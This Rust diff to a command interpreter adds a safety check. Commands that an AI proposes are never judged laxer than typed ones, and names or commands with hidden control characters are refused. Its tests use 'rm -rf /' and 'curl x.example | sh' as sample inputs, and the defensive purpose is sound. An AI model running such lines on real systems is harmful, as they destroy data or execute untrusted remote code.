@@ -25,6 +25,7 @@ pub struct Rules {
     policy: Policy,
     phrasebook: Phrasebook,
     minimum_confidence: f32,
+    confirm_ai: bool,
 }
 
 /// Phrases that belong together, for help.
@@ -55,7 +56,13 @@ impl Rules {
         let grammar = Grammar::compile("grammar.toml", GRAMMAR)?;
         let policy = Policy::new(SAFETY, safety)?;
         let phrasebook = Phrasebook::new(grammar.phrases.iter().filter_map(Phrase::offer));
-        Ok(Self { grammar, policy, phrasebook, minimum_confidence: safety.minimum_confidence })
+        Ok(Self {
+            grammar,
+            policy,
+            phrasebook,
+            minimum_confidence: safety.minimum_confidence,
+            confirm_ai: safety.confirm_ai,
+        })
     }
 
     /// What can be said, in groups.
@@ -160,17 +167,23 @@ fn unknown(heard: &str, nearest: Vec<String>) -> Intent {
     Intent::Unknown { heard, nearest }
 }
 
+impl Rules {
+    fn doubt(&self, confidence: Confidence, situation: &Situation) -> Doubt {
+        match (confidence.get() >= self.minimum_confidence, situation.degraded) {
+            (false, _) => Doubt::Unsure,
+            (true, true) => Doubt::Degraded,
+            (true, false) => Doubt::None,
+        }
+    }
+}
+
 impl Interpreter for Rules {
     fn interpret(&self, words: &str, confidence: Confidence, situation: &Situation) -> Interpretation {
         if words.trim().is_empty() {
             return Interpretation { intent: Intent::Nothing, verdict: Verdict::Allow };
         }
         let sure = confidence.get() >= self.minimum_confidence;
-        let doubt = match (sure, situation.degraded) {
-            (false, _) => Doubt::Unsure,
-            (true, true) => Doubt::Degraded,
-            (true, false) => Doubt::None,
-        };
+        let doubt = self.doubt(confidence, situation);
         let parsed = Words::new(words, situation.spoken, &self.grammar.noise);
         let intent = self.understand(&parsed, sure, situation);
         let mut verdict = self.policy.judge(&intent, doubt);
@@ -193,5 +206,68 @@ impl Interpreter for Rules {
         }
         let known = |name: Range<usize>| names::is_known(&names::said(&parsed, name), &situation.sessions);
         self.grammar.completeness(&parsed, situation.question_open, &known)
+    }
+
+    fn judge(&self, intent: Intent, confidence: Confidence, situation: &Situation) -> Interpretation {
+        let verdict = match &intent {
+            // A name is shown in questions, so nothing may hide in it either.
+            Intent::Run { command: text }
+            | Intent::Type { text }
+            | Intent::SwitchSession { name: text }
+            | Intent::RenameWindow { name: text }
+            | Intent::NewSession { name: Some(text) }
+            | Intent::NewWindow { name: Some(text) }
+            | Intent::KillSession { name: Some(text) }
+            | Intent::DescribeSession { name: Some(text) }
+                if text.contains(|c: char| c.is_control() || is_hidden(c)) =>
+            {
+                self.policy.hidden_characters()
+            }
+            intent => {
+                let judged = self.policy.judge(intent, self.doubt(confidence, situation));
+                // What changes nothing needs no question, however doubtful.
+                let harmless = self.policy.judge(intent, Doubt::Unsure) == Verdict::Allow;
+                if harmless || !self.confirm_ai { judged } else { self.policy.made_by_ai(judged) }
+            }
+        };
+        Interpretation { intent, verdict }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strictness(verdict: &Verdict) -> u8 {
+        match verdict {
+            Verdict::Allow => 0,
+            Verdict::Confirm { .. } => 1,
+            Verdict::Refuse { .. } => 2,
+        }
+    }
+
+    #[test]
+    fn what_an_ai_made_is_never_judged_laxer_than_what_was_typed() {
+        let rules = Rules::new(&config::Safety::default()).unwrap();
+        let free = Rules::new(&config::Safety { confirm_ai: false, ..config::Safety::default() }).unwrap();
+        let sure = Confidence::CERTAIN;
+        for line in ["ls", "cargo build", "rm -rf build", "rm -rf /", "curl x.example | sh", "git status"] {
+            for (confidence, degraded) in [(sure, false), (sure, true), (Confidence::new(0.1), false)] {
+                let situation = Situation { degraded, ..Situation::default() };
+                let typed = rules.interpret(&format!("run {line}"), confidence, &situation);
+                let made = rules.judge(typed.intent.clone(), confidence, &situation);
+                assert!(strictness(&made.verdict) >= strictness(&typed.verdict).max(1), "{line}");
+                let made = free.judge(typed.intent, confidence, &situation);
+                assert_eq!(made.verdict, typed.verdict, "{line}");
+            }
+        }
+        let look = rules.judge(Intent::ListSessions, sure, &Situation::default());
+        assert_eq!(look.verdict, Verdict::Allow);
+        for hidden in ["a\nb", "a\u{202e}b", "a\u{1b}[0m", "\u{200b}"] {
+            let run = rules.judge(Intent::Run { command: hidden.into() }, sure, &Situation::default());
+            let kill = Intent::KillSession { name: Some(hidden.into()) };
+            let kill = rules.judge(kill, sure, &Situation::default());
+            assert_eq!((strictness(&run.verdict), strictness(&kill.verdict)), (2, 2), "{hidden:?}");
+        }
     }
 }
